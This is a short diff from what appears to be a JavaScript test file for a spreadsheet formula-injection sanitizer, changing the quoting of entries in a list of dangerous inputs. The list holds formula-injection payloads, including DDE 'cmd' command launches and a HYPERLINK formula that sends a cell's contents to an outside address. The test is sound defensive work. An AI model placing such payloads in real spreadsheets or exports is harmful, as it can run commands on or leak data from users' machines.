@@ -14,8 +14,8 @@ import { makeEvent } from './lab-fixtures.js';
 const DANGEROUS = [
   '=HYPERLINK("http://x/?"&A1,"click")',
   "+cmd|' /C calc'!A0",
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '=1+1',
